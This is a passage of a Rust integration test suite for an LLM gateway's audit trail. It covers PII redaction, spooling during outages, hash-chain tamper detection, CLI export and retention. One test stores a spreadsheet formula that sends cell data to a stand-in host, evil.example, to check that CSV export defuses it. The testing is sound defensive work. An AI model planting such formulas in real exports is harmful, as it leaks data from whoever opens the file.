//! The audit trail against a real Postgres: one row per call of every kind, no raw
//! personal data on the record, nothing lost while the database is away, and a
//! hash chain that shows tampering.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use futures_util::StreamExt;
use serde_json::{Value, json};
use sqlx::PgPool;

use crate::support::postgres::{Proxy, address, fresh_database, via};
use crate::support::{FakeProvider, Gateway, ask, ask_stream, config_over};
use ragway::audit::chain::Fault;
use ragway::audit::row::Chained;
use ragway::audit::store::{AuditStore, Query, Range};

const PHONE: &str = "13812345678";
const ID_CARD: &str = "11010519491231002X";

pub(crate) fn temp_dir() -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ragway-audit-{}", uuid::Uuid::new_v4()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// The `[audit]` section for a database named by the `AUDIT_DB` variable.
pub(crate) fn audit_section(instance: &str, spool: &Path) -> String {
    format!(
        "\n[audit]\ndatabase_env = \"AUDIT_DB\"\ninstance = \"{instance}\"\nspool_dir = \"{}\"\n\
         flush_every = \"20ms\"\nwrite_timeout = \"1s\"\nshutdown_deadline = \"3s\"\n\
         [audit.prices]\n\"fake:ok\" = {{ input = 1.0, output = 2.0 }}\n",
        spool.display()
    )
}

fn store(gw: &Gateway) -> Arc<dyn AuditStore> {
    Arc::clone(&gw.state.audit.as_ref().expect("audit configured").store)
}

async fn rows_of(store: &dyn AuditStore, request_id: &str) -> Vec<Chained> {
    store
        .query(&Query {
            request_id: Some(request_id.to_owned()),
            limit: 10,
            ..Query::default()
        })
        .await
        .unwrap()
}

/// Waits until `instance` has `n` rows (or fails after 20 s).
pub(crate) async fn wait_for_rows(pool: &PgPool, instance: &str, n: i64) {
    let mut seen = 0;
    for _ in 0..400 {
        seen = sqlx::query_scalar(
            "SELECT count(*) FROM audit_calls c JOIN audit_names i ON i.id = c.instance_id \
             WHERE i.name = $1",
        )
        .bind(instance)
        .fetch_one(pool)
        .await
        .unwrap_or(0);
        if seen >= n {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(seen, n, "rows of {instance}");
}

async fn send(gw: &Gateway, id: &str, key: Option<&str>, body: reqwest::Body) -> reqwest::Response {
    let mut request = gw
        .http()
        .post(format!("{}/v1/chat/completions", gw.url))
        .header("x-request-id", id)
        .header("content-type", "application/json")
        .header("user-agent", "audit-test/1.0")
        .body(body);
    if let Some(key) = key {
        request = request.bearer_auth(key);
    }
    request.send().await.unwrap()
}

fn json_body(value: Value) -> reqwest::Body {
    value.to_string().into()
}

#[tokio::test]
async fn every_kind_of_call_leaves_exactly_one_row() {
    let fake = FakeProvider::start().await;
    let db = fresh_database().await;
    let spool = temp_dir();
    std::fs::write(spool.join("guard.txt"), "forbiddenword\n").unwrap();
    let config = format!(
        "{}\n[models.broken]\ntargets = [\"fake:status-503#a\"]\n\
         [models.slow]\ntargets = [\"fake:drip-300\"]\n\
         [models.silent]\ntargets = [\"fake:slow-ttft-3000\"]\n\
         [auth]\nadmin_key_env = \"ADMIN\"\n\
         [[auth.keys]]\nid = \"bot\"\ntenant = \"acme\"\nkey_env = \"KEY\"\n\
         [pii.actions]\nid_card = \"block\"\n\
         [guard]\nfile = \"{}\"\n[cache]\n{}",
        config_over(&fake, &[("chat", &["ok"])]),
        spool.join("guard.txt").display(),
        audit_section("gw-kinds", &spool.join("spool")),
    );
    let env = [
        ("AUDIT_DB", db.as_str()),
        ("ADMIN", "admin-secret"),
        ("KEY", "sk-acme"),
    ];
    let gw = Gateway::start_with_env(&config, &env).await;
    let key = Some("sk-acme");
    let with_phone = json!({"model": "chat", "temperature": 0, "user": "u-42",
        "messages": [{"role": "user", "content": format!("call me on {PHONE}")}]});

    assert_eq!(
        send(&gw, "t-ok", key, json_body(with_phone.clone()))
            .await
            .status(),
        200
    );
    let hit = send(&gw, "t-hit", key, json_body(with_phone)).await;
    assert_eq!(hit.headers()["x-ragway-cache"], "hit-l1");
    let stream = send(
        &gw,
        "t-stream",
        key,
        json_body(ask_stream("chat", "stream it")),
    )
    .await;
    assert!(stream.text().await.unwrap().contains("[DONE]"));
    assert_eq!(
        send(
            &gw,
            "t-badkey",
            Some("sk-wrong"),
            json_body(ask("chat", "hi"))
        )
        .await
        .status(),
        401
    );
    assert_eq!(
        send(&gw, "t-badjson", key, "{not json".into())
            .await
            .status(),
        400
    );
    assert_eq!(
        send(&gw, "t-nomodel", key, json_body(ask("nope", "hi")))
            .await
            .status(),
        404
    );
    let blocked = json_body(ask("chat", &format!("my id is {ID_CARD}")));
    assert_eq!(send(&gw, "t-pii", key, blocked).await.status(), 400);
    assert_eq!(
        send(
            &gw,
            "t-guard",
            key,
            json_body(ask("chat", "a forbiddenword here"))
        )
        .await
        .status(),
        400
    );
    assert_eq!(
        send(&gw, "t-failed", key, json_body(ask("broken", "hi")))
            .await
            .status(),
        503
    );
    // A stream the client leaves after its first chunk.
    let abandoned = send(&gw, "t-abandoned", key, json_body(ask_stream("slow", "hi"))).await;
    let mut body = abandoned.bytes_stream();
    body.next().await.unwrap().unwrap();
    drop(body);
    // A whole answer the client stops waiting for.
    let impatient = reqwest::Client::builder()
        .timeout(Duration::from_millis(300))
        .build()
        .unwrap();
    let gave_up = impatient
        .post(format!("{}/v1/chat/completions", gw.url))
        .header("x-request-id", "t-gaveup")
        .bearer_auth("sk-acme")
        .json(&ask("silent", "hi"))
        .send()
        .await;
    assert!(gave_up.is_err(), "the client timed out");
    let models = gw
        .http()
        .get(format!("{}/v1/models", gw.url))
        .header("x-request-id", "t-models")
        .bearer_auth("sk-acme")
        .send()
        .await
        .unwrap();
    assert_eq!(models.status(), 200);
    assert_eq!(gw.get("/healthz").await.status(), 200);

    let store = store(&gw);
    let pool = PgPool::connect(&db).await.unwrap();
    // 12 calls; health checks are not recorded.
    wait_for_rows(&pool, "gw-kinds", 12).await;
    let one = |rows: Vec<Chained>, id: &str| {
        assert_eq!(rows.len(), 1, "rows for {id}: {rows:?}");
        rows.into_iter().next().unwrap().row
    };
    let ok = one(rows_of(store.as_ref(), "t-ok").await, "t-ok");
    assert_eq!(
        (ok.status, ok.outcome.as_str(), ok.cache.as_deref()),
        (200, "ok", Some("miss"))
    );
    assert_eq!(
        (ok.tenant.as_deref(), ok.client_key.as_deref()),
        (Some("acme"), Some("bot"))
    );
    assert_eq!(ok.end_user.as_deref(), Some("u-42"));
    assert_eq!(
        (ok.route.as_str(), ok.alias.as_deref()),
        ("/v1/chat/completions", Some("chat"))
    );
    assert_eq!(ok.target.as_deref(), Some("fake:ok"));
    assert_eq!(ok.user_agent.as_deref(), Some("audit-test/1.0"));
    assert_eq!(ok.client_ip.as_deref(), Some("127.0.0.1"));
    assert_eq!(ok.pii.get(), r#"{"mobile":1}"#);
    assert!(
        ok.prompt.as_deref().unwrap().contains("<PHONE_1>"),
        "{:?}",
        ok.prompt
    );
    assert!(ok.answer.as_deref().is_some_and(|a| !a.is_empty()));
    let (prompt, completion) = (ok.prompt_tokens.unwrap(), ok.completion_tokens.unwrap());
    assert!(prompt > 0 && completion > 0);
    let cost = (prompt as f64 + 2.0 * completion as f64) / 1e6;
    assert!(
        (ok.cost.unwrap() - cost).abs() < 1e-12,
        "{:?} vs {cost}",
        ok.cost
    );
    let attempts: Value = serde_json::from_str(ok.attempts.get()).unwrap();
    assert_eq!(attempts[0]["target"], "fake:ok");
    assert_eq!(attempts[0]["outcome"], "ok");
    assert!(!ok.stream && !ok.local_fallback && ok.error.is_none());

    let hit = one(rows_of(store.as_ref(), "t-hit").await, "t-hit");
    assert_eq!(hit.cache.as_deref(), Some("hit-l1"));
    assert_eq!(hit.attempts.get(), "[]");

    let stream = one(rows_of(store.as_ref(), "t-stream").await, "t-stream");
    assert!(stream.stream && stream.ttft_us.is_some(), "{stream:?}");
    assert_eq!(stream.outcome, "ok");

    let bad_key = one(rows_of(store.as_ref(), "t-badkey").await, "t-badkey");
    assert_eq!(
        (bad_key.status, bad_key.error.as_deref()),
        (401, Some("invalid_api_key"))
    );
    assert_eq!(bad_key.tenant, None);

    let bad_json = one(rows_of(store.as_ref(), "t-badjson").await, "t-badjson");
    assert_eq!(
        (bad_json.status, bad_json.error.as_deref()),
        (400, Some("invalid_request"))
    );
    assert_eq!(bad_json.tenant.as_deref(), Some("acme"));

    let no_model = one(rows_of(store.as_ref(), "t-nomodel").await, "t-nomodel");
    assert_eq!(
        (no_model.status, no_model.error.as_deref()),
        (404, Some("model_not_found"))
    );
    assert_eq!(
        no_model.alias, None,
        "an unknown name is not kept as an alias"
    );

    let pii = one(rows_of(store.as_ref(), "t-pii").await, "t-pii");
    assert_eq!(
        (pii.status, pii.error.as_deref()),
        (400, Some("pii_blocked"))
    );
    assert_eq!(pii.pii.get(), r#"{"id_card":1}"#);

    let guard = one(rows_of(store.as_ref(), "t-guard").await, "t-guard");
    assert_eq!(
        (guard.status, guard.error.as_deref()),
        (400, Some("content_filter"))
    );

    let failed = one(rows_of(store.as_ref(), "t-failed").await, "t-failed");
    assert_eq!(
        (failed.status, failed.error.as_deref()),
        (503, Some("all_targets_failed"))
    );
    let attempts: Vec<Value> = serde_json::from_str(failed.attempts.get()).unwrap();
    assert!(
        !attempts.is_empty()
            && attempts
                .iter()
                .all(|a| a["outcome"] == "http_5xx" && a["http_status"] == 503),
        "{attempts:?}"
    );

    let abandoned = one(rows_of(store.as_ref(), "t-abandoned").await, "t-abandoned");
    assert_eq!(abandoned.outcome, "abandoned");

    let gave_up = one(rows_of(store.as_ref(), "t-gaveup").await, "t-gaveup");
    assert_eq!(
        (gave_up.status, gave_up.outcome.as_str()),
        (499, "abandoned")
    );
    assert_eq!(gave_up.tenant.as_deref(), Some("acme"));

    let models = one(rows_of(store.as_ref(), "t-models").await, "t-models");
    assert_eq!((models.route.as_str(), models.status), ("/v1/models", 200));

    // No column of any row holds a raw value.
    let all: Vec<String> = sqlx::query_scalar("SELECT row_to_json(l)::text FROM audit_log l")
        .fetch_all(&pool)
        .await
        .unwrap();
    assert_eq!(all.len(), 12);
    for row in &all {
        assert!(!row.contains(PHONE) && !row.contains(ID_CARD), "{row}");
    }
    let reports = ragway::audit::verify::verify(store.as_ref(), Range::default())
        .await
        .unwrap();
    assert_eq!(reports.len(), 1);
    assert_eq!(
        (reports[0].rows, &reports[0].fault),
        (12, &None),
        "{}",
        reports[0]
    );
}

#[tokio::test]
async fn a_database_outage_loses_no_row_and_keeps_the_order() {
    let fake = FakeProvider::start().await;
    let db = fresh_database().await;
    let proxy = Proxy::start(address(&db)).await;
    let spool = temp_dir();
    let config = format!(
        "{}{}",
        config_over(&fake, &[("chat", &["ok"])]),
        audit_section("gw-outage", &spool)
    );
    let through_proxy = via(&db, proxy.addr);
    let gw = Gateway::start_with_env(&config, &[("AUDIT_DB", through_proxy.as_str())]).await;
    let pool = PgPool::connect(&db).await.unwrap();

    let sent = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let requests = futures_util::stream::iter(0..1000)
        .map(|i| {
            let (gw, sent) = (&gw, Arc::clone(&sent));
            async move {
                let response =
                    send(gw, &format!("o-{i:04}"), None, json_body(ask("chat", "hi"))).await;
                sent.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                response.status()
            }
        })
        .buffer_unordered(32)
        .collect::<Vec<_>>();
    let outage = async {
        while sent.load(std::sync::atomic::Ordering::SeqCst) < 100 {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        proxy.cut();
        while sent.load(std::sync::atomic::Ordering::SeqCst) < 900 {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        proxy.restore();
    };
    let (statuses, ()) = tokio::join!(requests, outage);
    assert!(statuses.iter().all(|s| *s == 200));

    wait_for_rows(&pool, "gw-outage", 1000).await;
    let ids: Vec<(i64, String, f64)> = sqlx::query_as(
        "SELECT seq, request_id, extract(epoch FROM at)::float8 FROM audit_log \
         WHERE instance = 'gw-outage' ORDER BY seq",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    let seqs: Vec<i64> = ids.iter().map(|(s, _, _)| *s).collect();
    // In order: along the chain, time never goes back by more than the moment
    // between a record's time and its hand-over (spooled rows replayed out of
    // order would go back by the outage's length).
    let went_back = ids
        .windows(2)
        .map(|w| w[0].2 - w[1].2)
        .fold(0.0_f64, f64::max);
    assert!(
        went_back < 0.25,
        "time went back {went_back} s along the chain"
    );
    assert_eq!(
        seqs,
        (1..=1000).collect::<Vec<_>>(),
        "one place per row, none skipped"
    );
    let mut requests: Vec<&str> = ids.iter().map(|(_, r, _)| r.as_str()).collect();
    requests.sort_unstable();
    requests.dedup();
    assert_eq!(requests.len(), 1000, "each request exactly once");
    let metrics = gw.get("/metrics").await.text().await.unwrap();
    let spooled = metric(&metrics, "ragway_audit_spooled_total");
    assert!(
        spooled > 0.0,
        "the outage sent rows to the spool:\n{metrics}"
    );
    assert!(
        metric(
            &metrics,
            "ragway_audit_write_errors_total{stage=\"database\"}"
        ) > 0.0
    );
    let reports = ragway::audit::verify::verify(store(&gw).as_ref(), Range::default())
        .await
        .unwrap();
    assert_eq!(reports[0].fault, None, "{}", reports[0]);
    assert_eq!(reports[0].rows, 1000);
}

fn metric(text: &str, name: &str) -> f64 {
    text.lines()
        .find_map(|l| l.strip_prefix(name)?.trim().parse().ok())
        .unwrap_or(0.0)
}

#[tokio::test]
async fn a_restart_replays_the_spool_it_was_left() {
    let fake = FakeProvider::start().await;
    let db = fresh_database().await;
    let proxy = Proxy::start(address(&db)).await;
    proxy.cut();
    let spool = temp_dir();
    let config = format!(
        "{}{}",
        config_over(&fake, &[("chat", &["ok"])]),
        audit_section("gw-restart", &spool)
    )
    .replace(
        "shutdown_deadline = \"3s\"",
        "shutdown_deadline = \"300ms\"",
    );
    let through_proxy = via(&db, proxy.addr);
    let env = [("AUDIT_DB", through_proxy.as_str())];
    let first = Gateway::start_with_env(&config, &env).await;
    for i in 0..30 {
        let response = send(
            &first,
            &format!("r-{i:02}"),
            None,
            json_body(ask("chat", "hi")),
        )
        .await;
        assert_eq!(response.status(), 200);
    }
    first
        .state
        .finish_audit(std::time::Duration::from_secs(30))
        .await;
    let spooled: u64 = std::fs::read_dir(&spool)
        .unwrap()
        .map(|e| e.unwrap().metadata().unwrap().len())
        .sum();
    assert!(spooled > 0, "the rows wait in the spool");
    drop(first);

    proxy.restore();
    let second = Gateway::start_with_env(&config, &env).await;
    let pool = PgPool::connect(&db).await.unwrap();
    wait_for_rows(&pool, "gw-restart", 30).await;
    let ids: Vec<String> = sqlx::query_scalar(
        "SELECT request_id FROM audit_log WHERE instance = 'gw-restart' ORDER BY seq",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    assert_eq!(
        ids,
        (0..30).map(|i| format!("r-{i:02}")).collect::<Vec<_>>()
    );
    // Later calls continue the same chain.
    send(&second, "r-30", None, json_body(ask("chat", "hi"))).await;
    wait_for_rows(&pool, "gw-restart", 31).await;
    let reports = ragway::audit::verify::verify(store(&second).as_ref(), Range::default())
        .await
        .unwrap();
    assert_eq!(
        (reports[0].rows, &reports[0].fault),
        (31, &None),
        "{}",
        reports[0]
    );
    second
        .state
        .finish_audit(std::time::Duration::from_secs(30))
        .await;
    let left = std::fs::read_dir(&spool)
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .ends_with(".jsonl")
        })
        .count();
    assert_eq!(left, 0, "a replayed spool file is removed");
}

/// 20 rows written by a gateway, the database they are in, and the store.
async fn written_chain(instance: &str) -> (String, PgPool, Gateway) {
    let fake = FakeProvider::start().await;
    let db = fresh_database().await;
    let config = format!(
        "{}{}",
        config_over(&fake, &[("chat", &["ok"])]),
        audit_section(instance, &temp_dir())
    );
    let gw = Gateway::start_with_env(&config, &[("AUDIT_DB", db.as_str())]).await;
    for i in 0..20 {
        send(
            &gw,
            &format!("{instance}-{i:02}"),
            None,
            json_body(ask("chat", "hi")),
        )
        .await;
    }
    let pool = PgPool::connect(&db).await.unwrap();
    wait_for_rows(&pool, instance, 20).await;
    (db, pool, gw)
}

async fn fault(gw: &Gateway) -> Option<Fault> {
    let reports = ragway::audit::verify::verify(store(gw).as_ref(), Range::default())
        .await
        .unwrap();
    reports.into_iter().next().unwrap().fault
}

#[tokio::test]
async fn verify_finds_each_kind_of_tampering_at_its_row() {
    let (_, pool, gw) = written_chain("gw-tamper").await;
    assert_eq!(fault(&gw).await, None);

    // Altered: an answer rewritten in place.
    let original: String = sqlx::query_scalar("SELECT answer FROM audit_calls WHERE seq = 5")
        .fetch_one(&pool)
        .await
        .unwrap();
    sqlx::query("UPDATE audit_calls SET answer = 'nothing was said' WHERE seq = 5")
        .execute(&pool)
        .await
        .unwrap();
    assert!(matches!(
        fault(&gw).await,
        Some(Fault::Altered { seq: 5, .. })
    ));
    sqlx::query("UPDATE audit_calls SET answer = $1 WHERE seq = 5")
        .bind(&original)
        .execute(&pool)
        .await
        .unwrap();
    assert_eq!(fault(&gw).await, None, "put back, it verifies again");

    // Inserted: a copy of row 8 under another request id, its hash recomputed.
    let mut copy = store(&gw)
        .query(&Query {
            request_id: Some("gw-tamper-07".into()),
            limit: 1,
            ..Query::default()
        })
        .await
        .unwrap()
        .remove(0);
    copy.row.request_id = "forged".into();
    copy.row_hash =
        ragway::audit::row::row_hash(&copy.instance, copy.seq, &copy.row, &copy.prev_hash);
    sqlx::query(
        "INSERT INTO audit_calls SELECT at, instance_id, seq, 'forged', tenant_id, key_id, end_user, \
         route_id, alias_id, target_id, attempts, cache_id, local_fallback, stream, status, \
         outcome_id, error_id, latency_us, ttft_us, prompt_tokens, completion_tokens, cost, pii, \
         prompt, answer, passages, client_ip, user_agent, prev_hash, $1 FROM audit_calls WHERE seq = 8",
    )
    .bind(&copy.row_hash[..])
    .execute(&pool)
    .await
    .unwrap();
    assert!(
        matches!(fault(&gw).await, Some(Fault::Inserted { seq: 8, .. })),
        "{:?}",
        fault(&gw).await
    );
    sqlx::query("DELETE FROM audit_calls WHERE request_id = 'forged'")
        .execute(&pool)
        .await
        .unwrap();

    // Missing: a row deleted from the middle, then one from the end.
    sqlx::query("DELETE FROM audit_calls WHERE seq = 12")
        .execute(&pool)
        .await
        .unwrap();
    assert_eq!(fault(&gw).await, Some(Fault::Missing { from: 12, to: 12 }));
    let (_, pool2, gw2) = written_chain("gw-tail").await;
    sqlx::query("DELETE FROM audit_calls WHERE seq = 20")
        .execute(&pool2)
        .await
        .unwrap();
    assert_eq!(
        fault(&gw2).await,
        Some(Fault::Truncated { last: 19, head: 20 })
    );
}

#[tokio::test]
async fn the_cli_verifies_exports_and_migrates() {
    let (db, pool, gw) = written_chain("gw-cli").await;
    let dir = temp_dir();
    let config = dir.join("ragway.toml");
    // The file also names a provider whose key the auditor does not hold: the
    // audit commands read only `[audit]`.
    std::fs::write(
        &config,
        "[providers.echo]\nkind = \"openai\"\nbase_url = \"http://127.0.0.1:9/v1\"\n\
         api_key_env = \"ECHO_KEY\"\n\n[models.chat]\ntargets = [\"echo:m\"]\n\n\
         [audit]\ndatabase_env = \"AUDIT_DB\"\n",
    )
    .unwrap();
    let run = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_ragway"))
            .arg("--config")
            .arg(&config)
            .args(args)
            .env("AUDIT_DB", &db)
            .env_remove("ECHO_KEY")
            .output()
            .unwrap()
    };
    let migrated = run(&["migrate"]);
    assert!(migrated.status.success(), "{migrated:?}");
    let verified = run(&["audit", "verify"]);
    let out = String::from_utf8_lossy(&verified.stdout);
    assert!(
        verified.status.success() && out.contains("gw-cli: ok, 20 rows"),
        "{out}"
    );

    let recent = run(&["audit", "verify", "--since", "1h"]);
    let out = String::from_utf8_lossy(&recent.stdout);
    assert!(
        recent.status.success() && out.contains("gw-cli: ok, 20 rows"),
        "{out}"
    );
    let idle = run(&["audit", "verify", "--since", "0s"]);
    let out = String::from_utf8_lossy(&idle.stdout);
    assert!(
        idle.status.success() && out.contains("no rows in range"),
        "{out}"
    );
    let jsonl = run(&["audit", "export", "--since", "1h", "--format", "jsonl"]);
    let lines: Vec<Value> = String::from_utf8_lossy(&jsonl.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 20);
    assert_eq!(lines[0]["request_id"], "gw-cli-00");
    assert_eq!(lines[19]["seq"], 20);
    let csv = run(&[
        "audit",
        "export",
        "--format",
        "csv",
        "--until",
        "2000-01-01",
    ]);
    let text = String::from_utf8_lossy(&csv.stdout);
    assert_eq!(
        text.lines().count(),
        1,
        "only the header before 2000: {text}"
    );
    assert!(text.starts_with("at,instance,seq,request_id"));
    let csv = run(&["audit", "export", "--format", "csv"]);
    assert_eq!(String::from_utf8_lossy(&csv.stdout).lines().count(), 21);

    sqlx::query("UPDATE audit_calls SET status = 500 WHERE seq = 3")
        .execute(&pool)
        .await
        .unwrap();
    let broken = run(&["audit", "verify"]);
    let out = String::from_utf8_lossy(&broken.stdout);
    assert_eq!(broken.status.code(), Some(1), "{out}");
    assert!(out.contains("row 3") && out.contains("altered"), "{out}");
    drop(gw);
}

#[tokio::test]
async fn the_query_endpoint_reads_by_request_tenant_and_time() {
    let fake = FakeProvider::start().await;
    let db = fresh_database().await;
    let config = format!(
        "{}\n[auth]\nadmin_key_env = \"ADMIN\"\n{}",
        config_over(&fake, &[("chat", &["ok"])]),
        audit_section("gw-query", &temp_dir())
    );
    let gw = Gateway::start_with_env(&config, &[("AUDIT_DB", db.as_str()), ("ADMIN", "adm")]).await;
    for i in 0..5 {
        send(&gw, &format!("q-{i}"), None, json_body(ask("chat", "hi"))).await;
    }
    let pool = PgPool::connect(&db).await.unwrap();
    wait_for_rows(&pool, "gw-query", 5).await;
    let get = |query: &str| {
        gw.http()
            .get(format!("{}/admin/audit?{query}", gw.url))
            .bearer_auth("adm")
            .send()
    };
    let one: Value = get("request_id=q-3").await.unwrap().json().await.unwrap();
    assert_eq!(one["data"].as_array().unwrap().len(), 1);
    assert_eq!(one["data"][0]["request_id"], "q-3");
    assert_eq!(one["data"][0]["tenant"], "default");
    let recent: Value = get("since=1h&tenant=default&limit=3")
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let ids: Vec<&str> = recent["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["request_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["q-4", "q-3", "q-2"], "newest first");
    let none: Value = get("tenant=globex").await.unwrap().json().await.unwrap();
    assert_eq!(none["data"], json!([]));
    let old: Value = get("until=2000-01-01").await.unwrap().json().await.unwrap();
    assert_eq!(old["data"], json!([]));
    let bad = get("since=yesterday").await.unwrap();
    crate::support::expect_error(bad, 400).await;
    // Offsets name instants (`%2B` is `+` in a URL): 08:00 in Beijing on 1 Jan
    // 2000 is midnight UTC, long before any of these rows.
    let all: Value = get("since=2000-01-01T08:00:00%2B08:00&tenant=default")
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(all["data"].as_array().unwrap().len(), 5, "{all}");
    let none: Value = get("until=2000-01-01T03:00-05:00")
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(none["data"], json!([]));
    // A day February does not have is refused, not read as 3 March.
    let impossible = get("until=2026-02-31").await.unwrap();
    let error = crate::support::expect_error(impossible, 400).await;
    assert_eq!(error["param"], "until", "{error}");
    let anonymous = gw.get("/admin/audit").await;
    crate::support::expect_error(anonymous, 401).await;
}

/// A database that was away when the gateway started is read as soon as it is
/// back: the reader makes the schema rather than waiting for the writer's next
/// try (an error said "cannot be read" where the answer was "nothing yet").
#[tokio::test]
async fn a_trail_read_before_the_writer_migrated_answers_nothing_yet() {
    let fake = FakeProvider::start().await;
    let db = fresh_database().await;
    let proxy = Proxy::start(address(&db)).await;
    proxy.cut();
    let config = format!(
        "{}\n[auth]\nadmin_key_env = \"ADMIN\"\n{}",
        config_over(&fake, &[("chat", &["ok"])]),
        audit_section("gw-early", &temp_dir())
    );
    let through_proxy = via(&db, proxy.addr);
    let gw = Gateway::start_with_env(
        &config,
        &[("AUDIT_DB", through_proxy.as_str()), ("ADMIN", "adm")],
    )
    .await;
    // Long enough for the writer's tries to back off past a second.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    proxy.restore();
    for path in ["/admin/audit?since=1h", "/admin/usage?group_by=tenant"] {
        let response = gw
            .http()
            .get(format!("{}{path}", gw.url))
            .bearer_auth("adm")
            .send()
            .await
            .unwrap();
        let status = response.status();
        let body: Value = response.json().await.unwrap();
        assert_eq!(status, 200, "{path}: {body}");
        assert_eq!(body["data"], json!([]), "{path}: {body}");
    }
}

#[tokio::test]
async fn csv_exports_defuse_formulas_and_json_lines_keep_the_text() {
    let db = fresh_database().await;
    let store = ragway::audit::store::postgres::PgStore::connect_lazy(&db).unwrap();
    store.migrate().await.unwrap();
    let prompt = r#"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#;
    let mut row = sample_row("formula");
    row.prompt = Some(prompt.to_owned());
    row.answer = Some("+1 (555) 0100".to_owned());
    row.user_agent = Some("@evil".to_owned());
    store.append("gw-csv", &[row], None).await.unwrap();

    let dir = temp_dir();
    let config = dir.join("ragway.toml");
    std::fs::write(&config, "[audit]\ndatabase_env = \"AUDIT_DB\"\n").unwrap();
    let export = |format: &str| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_ragway"))
            .arg("--config")
            .arg(&config)
            .args(["audit", "export", "--format", format])
            .env("AUDIT_DB", &db)
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    let csv = export("csv");
    let line = csv.lines().nth(1).expect("a row after the header");
    assert!(
        line.contains(r#","'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")","#),
        "{line}"
    );
    assert!(line.contains(",'+1 (555) 0100,"), "{line}");
    assert!(line.contains(",'@evil,"), "{line}");
    let jsonl = export("jsonl");
    let exported: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(exported["prompt"], prompt);
    assert_eq!(exported["answer"], "+1 (555) 0100");
    assert_eq!(exported["user_agent"], "@evil");
}

#[tokio::test]
async fn retention_drops_whole_months_past_the_limit() {
    let db = fresh_database().await;
    let store = ragway::audit::store::postgres::PgStore::connect_lazy(&db).unwrap();
    store.migrate().await.unwrap();
    let now = ragway::audit::time::now_micros();
    let day = 86_400_000_000_i64;
    let mut rows = Vec::new();
    for (i, age) in [200, 120, 1].into_iter().enumerate() {
        let mut row = sample_row(&format!("age-{i}"));
        row.at_us = now - age * day;
        rows.push(row);
    }
    store.append("gw-old", &rows, None).await.unwrap();
    let done = store.retain(now - 90 * day).await.unwrap();
    assert!(done.starts_with("dropped audit_calls_"), "{done}");
    let left: Vec<Chained> = store
        .query(&Query {
            limit: 10,
            ..Query::default()
        })
        .await
        .unwrap();
    let ids: Vec<&str> = left.iter().map(|r| r.row.request_id.as_str()).collect();
    assert_eq!(ids, ["age-2"], "the 200- and 120-day-old months are gone");
    // What is left verifies from its first row.
    let reports = ragway::audit::verify::verify(&store, Range::default())
        .await
        .unwrap();
    assert_eq!(reports[0].fault, None, "{}", reports[0]);
}

fn sample_row(request_id: &str) -> ragway::audit::row::Row {
    let raw = |s: &str| serde_json::value::RawValue::from_string(s.to_owned()).unwrap();
    ragway::audit::row::Row {
        at_us: ragway::audit::time::now_micros(),
        request_id: request_id.to_owned(),
        tenant: Some("acme".into()),
        client_key: None,
        end_user: None,
        route: "/v1/chat/completions".into(),
        alias: Some("chat".into()),
        target: None,
        attempts: raw("[]"),
        cache: None,
        local_fallback: false,
        stream: false,
        status: 200,
        outcome: "ok".into(),
        error: None,
        latency_us: 1,
        ttft_us: None,
        prompt_tokens: None,
        completion_tokens: None,
        cached_tokens: None,
        cost: None,
        pii: raw("{}"),
        prompt: None,
        answer: None,
        passages: raw("[]"),
        client_ip: None,
        user_agent: None,
    }
}

#[tokio::test]
async fn without_postgres_the_trail_goes_to_a_sqlite_file() {
    let fake = FakeProvider::start().await;
    let dir = temp_dir();
    let config = format!(
        "{}\n[audit]\ndatabase = \"sqlite://{}\"\ninstance = \"gw-lite\"\nspool_dir = \"{}\"\nflush_every = \"20ms\"\n",
        config_over(&fake, &[("chat", &["ok"])]),
        dir.join("data/audit.db").display(),
        dir.join("spool").display()
    );
    let gw = Gateway::start(&config).await;
    for i in 0..3 {
        send(
            &gw,
            &format!("l-{i}"),
            None,
            json_body(ask("chat", &format!("ring {PHONE}"))),
        )
        .await;
    }
    gw.state
        .finish_audit(std::time::Duration::from_secs(30))
        .await;
    let store = store(&gw);
    let rows = store
        .query(&Query {
            limit: 10,
            ..Query::default()
        })
        .await
        .unwrap();
    let ids: Vec<&str> = rows.iter().map(|r| r.row.request_id.as_str()).collect();
    assert_eq!(ids, ["l-2", "l-1", "l-0"]);
    assert!(rows[0].row.prompt.as_deref().unwrap().contains("<PHONE_1>"));
    let reports = ragway::audit::verify::verify(store.as_ref(), Range::default())
        .await
        .unwrap();
    assert_eq!(
        (reports[0].rows, &reports[0].fault),
        (3, &None),
        "{}",
        reports[0]
    );
    assert!(dir.join("data/audit.db").exists());
}

#[tokio::test]
async fn a_full_queue_sends_records_to_the_spool_and_none_is_lost() {
    let fake = FakeProvider::start().await;
    let db = fresh_database().await;
    let section = audit_section("gw-full", &temp_dir()).replace(
        "[audit.prices]",
        "queue = 1\nbatch_rows = 5\n[audit.prices]",
    );
    let config = format!("{}{section}", config_over(&fake, &[("chat", &["ok"])]));
    let gw = Gateway::start_with_env(&config, &[("AUDIT_DB", db.as_str())]).await;
    let statuses: Vec<_> = futures_util::stream::iter(0..200)
        .map(|i| {
            let gw = &gw;
            async move {
                send(gw, &format!("f-{i:03}"), None, json_body(ask("chat", "hi")))
